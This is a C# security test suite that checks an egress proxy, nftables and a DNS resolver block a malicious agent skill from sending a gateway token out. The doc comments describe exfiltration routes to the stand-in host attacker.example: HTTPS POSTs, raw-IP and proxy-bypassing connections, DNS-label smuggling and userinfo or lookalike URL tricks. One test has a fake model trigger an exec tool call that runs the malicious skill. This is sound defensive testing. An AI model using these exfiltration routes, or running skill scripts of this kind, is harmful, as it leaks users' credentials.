using System.Text.Json;
using System.Text.Json.Nodes;
using SecureStack.Testing.Netns;

namespace SecureStack.Security.Tests.Egress;

/// <summary>
/// Issue 9, "exfiltration attempts from a skill's script through the egress proxy": a malicious skill's shell
/// script (tests/security/Egress/skills/forecast-sync) reads the gateway token and tries every way out of the
/// agent's network. Each attempt must be refused by the proxy, nftables or dnsmasq; where the proxy saw it, an
/// <c>egress_blocked</c> audit event names the host, port, reason and client; the attacker's listener and the
/// public DNS never see the token or any packet from the agent side.
/// </summary>
public sealed class ExfiltrationTests : IClassFixture<ExfiltrationNetwork>
{
    private readonly ExfiltrationNetwork _fixture;

    public ExfiltrationTests(ExfiltrationNetwork fixture)
    {
        _fixture = fixture;
    }

    /// <summary>
    /// Attack: HTTPS POST of the token to a host that is not on the allowlist, through HTTPS_PROXY (what curl, node
    /// and the gateway's tools do by default). Defence: the proxy refuses the CONNECT (403) before resolving or
    /// connecting. Check: curl saw 403; an egress_blocked event for attacker.example:443, not_allowlisted, from the
    /// agent; the attacker got nothing.
    /// </summary>
    [RootFact]
    public async Task HttpsToUnlistedHost_IsRefusedByTheProxy()
    {
        var output = await _fixture.RunSkillAsync("https");

        Assert.Contains("connect=403", output, StringComparison.Ordinal);
        AssertBlockedEvent("attacker.example", "443", "not_allowlisted");
        AssertAttackerReceivedNothing();
    }

    /// <summary>
    /// Attack: the same POST to the attacker's raw IP address, so that no name lookup is needed. Defence: the proxy
    /// refuses address literals. Check: 403; egress_blocked for 198.18.0.66:443 with reason address_literal;
    /// the attacker got nothing.
    /// </summary>
    [RootFact]
    public async Task RawIpAddress_IsRefusedByTheProxy()
    {
        var output = await _fixture.RunSkillAsync("raw-ip");

        Assert.Contains("connect=403", output, StringComparison.Ordinal);
        AssertBlockedEvent(ExfiltrationNetwork.AttackerAddress, "443", "address_literal");
        AssertAttackerReceivedNothing();
    }

    /// <summary>
    /// Attack: ignore HTTPS_PROXY (<c>--noproxy '*'</c>) and connect to the attacker directly, over HTTPS and HTTP.
    /// Defence: the agent's network has no route out (Compose's internal network). Check: curl fails to connect
    /// (exit 7, network unreachable); the proxy saw nothing, so no new audit event; the attacker got nothing.
    /// </summary>
    [RootFact]
    public async Task DirectConnection_HasNoRouteOut()
    {
        var before = BlockedEvents().Count;

        var https = await _fixture.RunSkillAsync("direct");
        var http = await _fixture.RunSkillAsync("direct-plain");

        Assert.StartsWith("direct rc=7 ", https, StringComparison.Ordinal);
        Assert.StartsWith("direct-plain rc=7 ", http, StringComparison.Ordinal);
        Assert.Equal(before, BlockedEvents().Count);
        AssertAttackerReceivedNothing();
    }

    /// <summary>
    /// Attack: the direct connection again, in the worst case where the agent does have a default route via the
    /// egress host and the kernel there forwards packets (a misconfigured network). Defence: the egress host's
    /// nftables forward chain drops everything. Check: curl times out (exit 28); the forward chain's drop counter
    /// went up; the attacker got nothing.
    /// </summary>
    [RootFact]
    public async Task DirectConnection_ThroughTheEgressHost_IsDroppedByNftables()
    {
        var network = _fixture.Network;
        var forwardedBefore = await ForwardDrops();
        await Run("ip", "-n", network.Agent, "route", "add", "default", "via", "10.77.0.1");
        await Run("ip", "netns", "exec", network.Egress, "sysctl", "-qw", "net.ipv4.ip_forward=1");
        try
        {
            var output = await _fixture.RunSkillAsync("direct");

            Assert.StartsWith("direct rc=28 ", output, StringComparison.Ordinal);
        }
        finally
        {
            await Run("ip", "netns", "exec", network.Egress, "sysctl", "-qw", "net.ipv4.ip_forward=0");
            await Run("ip", "-n", network.Agent, "route", "del", "default");
        }

        Assert.True(await ForwardDrops() > forwardedBefore, "the nftables forward chain did not count the dropped packets");
        AssertAttackerReceivedNothing();
    }

    /// <summary>
    /// Attack: the skill's Node.js script, whose <c>fetch</c> ignores HTTPS_PROXY, posts the token to the attacker by
    /// name and by address, and opens a raw TCP socket to it. Defence: the name is NXDOMAIN at the egress dnsmasq
    /// (so there is nothing to connect to), and the agent's network has no route for the addresses. Check: fetch by
    /// name fails with ENOTFOUND, by address and by socket with ENETUNREACH; the egress resolver logged the lookup;
    /// the attacker got nothing.
    /// </summary>
    [RootFact]
    public async Task NodeScriptIgnoringTheProxy_FindsNoWayOut()
    {
        var byName = await _fixture.RunNodeSkillAsync("fetch-name");
        var byAddress = await _fixture.RunNodeSkillAsync("fetch-ip");
        var socket = await _fixture.RunNodeSkillAsync("socket");

        Assert.Equal((false, "ENOTFOUND"), (byName.GetProperty("ok").GetBoolean(), byName.GetProperty("code").GetString()));
        Assert.Equal((false, "ENETUNREACH"), (byAddress.GetProperty("ok").GetBoolean(), byAddress.GetProperty("code").GetString()));
        Assert.Equal((false, "ENETUNREACH"), (socket.GetProperty("ok").GetBoolean(), socket.GetProperty("code").GetString()));
        Assert.Contains("query[A] attacker.example from 10.77.0.2", File.ReadAllText(_fixture.Network.EgressDnsLog), StringComparison.Ordinal);
        AssertAttackerReceivedNothing();
    }

    /// <summary>
    /// Attack: DNS exfiltration, the token as a label of a lookup (<c>TOKEN.attacker.example</c>) that a recursive
    /// resolver would carry to the attacker's name server; and the same query sent straight to the attacker's
    /// address on port 53. Defence: the egress dnsmasq answers every name outside the allowlist NXDOMAIN itself and
    /// forwards nothing; the agent has no route to any other DNS server. Check: NXDOMAIN; the egress resolver logged
    /// the query (so it did see it); the public DNS never received the token; the direct query got no answer; the
    /// attacker got nothing.
    /// </summary>
    [RootFact]
    public async Task DnsExfiltration_IsAnsweredLocallyAndNeverForwarded()
    {
        var lookup = await _fixture.RunSkillAsync("dns");
        var direct = await _fixture.RunSkillAsync("dns-direct");

        Assert.Contains("NXDOMAIN", lookup, StringComparison.Ordinal);
        Assert.Contains(_fixture.Token + ".attacker.example", File.ReadAllText(_fixture.Network.EgressDnsLog), StringComparison.Ordinal);
        Assert.DoesNotContain(_fixture.Token, File.ReadAllText(_fixture.Network.UpstreamDnsLog), StringComparison.Ordinal);
        Assert.DoesNotMatch("^dns-direct rc=0 ", direct);
        Assert.Contains("no servers could be reached", direct, StringComparison.Ordinal);
        AssertAttackerReceivedNothing();
    }

    /// <summary>
    /// Attack: URLs that show the allowlisted name but go elsewhere: <c>https://llm.example@attacker.example/</c>
    /// (the allowed name as user info), the same with ports, and <c>llm.example.attacker.example</c> (the allowed
    /// name as a subdomain of the attacker's). Defence: the proxy matches the CONNECT target host, which curl takes
    /// from the authority after the <c>@</c>, against the allowlist as a whole name. Check: 403 each; egress_blocked
    /// events name the real host (never llm.example); the attacker got nothing.
    /// </summary>
    [RootFact]
    public async Task AllowlistedNameTricks_AreRefusedByTheProxy()
    {
        foreach (var attack in new[] { "userinfo", "userinfo-port", "lookalike" })
        {
            var output = await _fixture.RunSkillAsync(attack);

            Assert.Contains("connect=403", output, StringComparison.Ordinal);
        }

        var hosts = BlockedEvents().Select(e => AuditReader.Detail(e, "host")).ToList();
        Assert.True(hosts.Count(h => h == "attacker.example") >= 2, $"expected the user@host attempts audited as attacker.example: {string.Join(", ", hosts)}");
        AssertBlockedEvent("llm.example.attacker.example", "443", "not_allowlisted");
        Assert.DoesNotContain("llm.example", hosts);
        AssertAttackerReceivedNothing();
    }

    /// <summary>
    /// Attack: the whole chain as it runs in production: the real OpenClaw gateway in the agent's network with the
    /// container's proxy environment and the malicious skill in its workspace; the model (the fake LLM, reached through
    /// the egress proxy) answers a chat turn with an <c>exec</c> tool call running the skill's <c>sync.sh https</c>.
    /// Defence: the command inherits HTTPS_PROXY from the gateway, and the proxy refuses the CONNECT to attacker.example.
    /// Check: the tool result the gateway sent back to the model holds curl's connect=403 (so exec really ran); a new
    /// egress_blocked event for attacker.example:443, not_allowlisted, from the agent; both model requests reached the
    /// fake LLM from the egress host (the allowlisted path works); the attacker got nothing.
    /// </summary>
    [RootFact]
    public async Task ExecToolCallFromTheRealGateway_IsRefusedByTheProxy()
    {
        var blockedBefore = BlockedEvents().Count(e => AuditReader.Detail(e, "host") == "attacker.example");
        var llmBefore = _fixture.LlmRequests().Count;

        await using (var gateway = await _fixture.StartGatewayAsync())
        {
            var call = new JsonObject { ["command"] = $"sh {gateway.SkillDirectory("forecast-sync")}/scripts/sync.sh https" };
            var (status, body) = await gateway.ChatAsync("Refresh today's forecast. FAKE_TOOL_CALL exec " + call.ToJsonString());

            Assert.True(status == "200" && body.Contains("Forecast synced.", StringComparison.Ordinal), $"chat turn answered {status}: {body}");
        }

        var turns = _fixture.LlmRequests().Skip(llmBefore).Where(r => r.GetProperty("path").GetString()!.EndsWith("/chat/completions", StringComparison.Ordinal)).ToList();
        var toolResults = turns.SelectMany(r => Messages(r).Where(m => m.GetProperty("role").GetString() == "tool")).Select(m => m.GetProperty("content").ToString()).ToList();
        Assert.True(toolResults.Any(t => t.Contains("https rc=", StringComparison.Ordinal) && t.Contains("connect=403", StringComparison.Ordinal)),
            $"no tool result with the script's connect=403 line in the {turns.Count} model requests; tool results: {string.Join(" | ", toolResults)}");
        Assert.True(BlockedEvents().Count(e => AuditReader.Detail(e, "host") == "attacker.example") > blockedBefore, "the exec'd script's CONNECT was not audited");
        AssertBlockedEvent("attacker.example", "443", "not_allowlisted");
        Assert.True(turns.Count >= 2, $"expected the tool-call request and the follow-up at the fake LLM, got {turns.Count}");
        Assert.All(turns, r => Assert.Equal((ExfiltrationNetwork.EgressHostAddress, "llm.example"), (r.GetProperty("client").GetString()!.Replace("::ffff:", "", StringComparison.Ordinal), r.GetProperty("host").GetString())));
        AssertAttackerReceivedNothing();
    }

    /// <summary>
    /// Control: the same script's request to the allowlisted (fake) LLM host still works through the proxy, and
    /// its lookup reaches the public DNS, so the refusals above are the allowlist's doing, not a broken network
    /// or a DNS log that records nothing.
    /// </summary>
    [RootFact]
    public async Task AllowlistedLlmHost_StillWorks()
    {
        var output = await _fixture.RunSkillAsync("llm");

        Assert.StartsWith("llm rc=0 ", output, StringComparison.Ordinal);
        using var response = JsonDocument.Parse(output["llm rc=0 ".Length..]);
        Assert.Equal("llm.example", response.RootElement.GetProperty("host").GetString());
        Assert.Equal("Sunny, 21 degrees.", response.RootElement.GetProperty("choices")[0].GetProperty("message").GetProperty("content").GetString());
        Assert.Contains("llm.example", File.ReadAllText(_fixture.Network.UpstreamDnsLog), StringComparison.Ordinal);
        Assert.DoesNotContain(BlockedEvents(), e => AuditReader.Detail(e, "host") == "llm.example");
    }

    /// <summary>
    /// Control: the attacker's listener records what does reach it (a connection and a DNS datagram sent from inside
    /// the fake internet), so "the attacker received nothing" is a check that can fail.
    /// </summary>
    [RootFact]
    public async Task AttackerListener_RecordsWhatReachesIt()
    {
        var network = _fixture.Network;
        var none = new Dictionary<string, string>();

        await network.RunInAsync(network.Inet, none, "curl", "-s", "--max-time", "3", "--data", "control-marker", $"http://{ExfiltrationNetwork.AttackerAddress}/");
        await network.RunInAsync(network.Inet, none, "dig", "+time=1", "+tries=1", "@" + ExfiltrationNetwork.AttackerAddress, "control-marker.attacker.example");

        var log = File.ReadAllText(_fixture.AttackerLog);
        Assert.Contains("tcp 80 data POST / HTTP/1.1", log, StringComparison.Ordinal);
        Assert.Contains("control-marker", log, StringComparison.Ordinal);
        Assert.Contains("udp 53 from", log, StringComparison.Ordinal);
    }

    private static IEnumerable<JsonElement> Messages(JsonElement request)
    {
        using var body = JsonDocument.Parse(request.GetProperty("body").GetString()!);
        return body.RootElement.TryGetProperty("messages", out var messages) ? [.. messages.EnumerateArray().Select(m => m.Clone())] : [];
    }

    private IReadOnlyList<JsonElement> BlockedEvents() => AuditReader.Read(_fixture.Network.AuditLogPath, "egress_blocked");

    private void AssertBlockedEvent(string host, string port, string reason)
    {
        var matching = BlockedEvents().Where(e => AuditReader.Detail(e, "host") == host && AuditReader.Detail(e, "port") == port).ToList();
        Assert.True(matching.Count > 0, $"no egress_blocked event for {host}:{port} in {_fixture.Network.AuditLogPath}:\n{File.ReadAllText(_fixture.Network.AuditLogPath)}");
        Assert.All(matching, e =>
        {
            Assert.Equal(reason, AuditReader.Detail(e, "reason"));
            Assert.Equal(EgressNamespaces.AgentAddress, AuditReader.Detail(e, "client"));
            Assert.Equal("blocked", e.GetProperty("result").GetString());
        });
    }

    /// <summary>Nothing from the agent's or the egress host's side reached the attacker, and the token appears in neither its log nor the public DNS's.</summary>
    private void AssertAttackerReceivedNothing()
    {
        var attacker = File.ReadAllText(_fixture.AttackerLog);
        Assert.DoesNotContain(_fixture.Token, attacker, StringComparison.Ordinal);
        Assert.DoesNotContain("from 10.77.0.", attacker, StringComparison.Ordinal);
        Assert.DoesNotContain("from 198.51.100.", attacker, StringComparison.Ordinal);
        Assert.DoesNotContain(_fixture.Token, File.ReadAllText(_fixture.Network.UpstreamDnsLog), StringComparison.Ordinal);
    }

    private async Task<long> ForwardDrops()
    {
        var (_, output, _) = await _fixture.Network.RunInAsync(_fixture.Network.Egress, new Dictionary<string, string>(), "nft", "list", "chain", "inet", "securestack_egress", "forward");
        var match = System.Text.RegularExpressions.Regex.Match(output, @"counter packets (\d+)");
        Assert.True(match.Success, $"no counter in the forward chain:\n{output}");
        return long.Parse(match.Groups[1].Value, System.Globalization.CultureInfo.InvariantCulture);
    }

    private static async Task Run(string file, params string[] arguments)
    {
        var (exitCode, output, error) = await ProcessRunner.RunAsync(file, arguments, TimeSpan.FromSeconds(30));
        Assert.True(exitCode == 0, $"{file} {string.Join(' ', arguments)} exited {exitCode}: {output}{error}");
    }
}
